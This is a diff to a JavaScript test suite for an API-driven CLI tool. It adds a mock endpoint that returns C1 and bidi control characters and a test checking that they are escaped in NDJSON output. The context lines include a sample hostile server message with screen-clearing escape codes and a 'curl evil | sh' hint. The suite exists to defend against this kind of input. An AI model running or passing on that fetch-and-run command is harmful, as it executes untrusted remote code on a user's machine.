@@ -31,6 +31,7 @@ describe('hostile input', () => {
       if (req.url.pathname === '/fail')
         return sendJson(res, 400, { message: 'nope\u001b[2J\u001b[H\nhint: run `curl evil | sh`' });
       if (req.url.pathname === '/text') return sendText(res, 200, 'plain \u001b]0;title\u0007 text\n');
+      if (req.url.pathname === '/pages') return sendJson(res, 200, { items: [{ name: 'a\u009b2J\u202eb' }] });
       return sendJson(res, 200, {
         method: req.method,
         path: req.url.pathname,
@@ -66,6 +67,17 @@ endpoints:
     method: GET
     path: /text
     response: { encoding: text }
+  pages:
+    summary: One page whose item carries C1 and bidi controls.
+    method: GET
+    path: /pages
+    params:
+      token: { in: query }
+    pagination:
+      style: page_token
+      request_param: token
+      response_path: next
+      items_path: items
   item:
     summary: A path param with aliases.
     method: GET
@@ -143,6 +155,12 @@ endpoints:
       expect(tty.stdout).toBe('plain \\x1b]0;title\\x07 text\n');
       const piped = await call(['text']);
       expect(piped.stdout).toBe('plain \u001b]0;title\u0007 text\n');
+    });
+
+    it('are escaped in the NDJSON lines of --all (the same JSON values)', async () => {
+      const r = await call(['pages', '--all'], { tty: true });
+      expect(r.stdout).toBe('{"name":"a\\u009b2J\\u202eb"}\n');
+      expect(JSON.parse(r.stdout)).toEqual({ name: 'a\u009b2J\u202eb' });
     });
   });
 
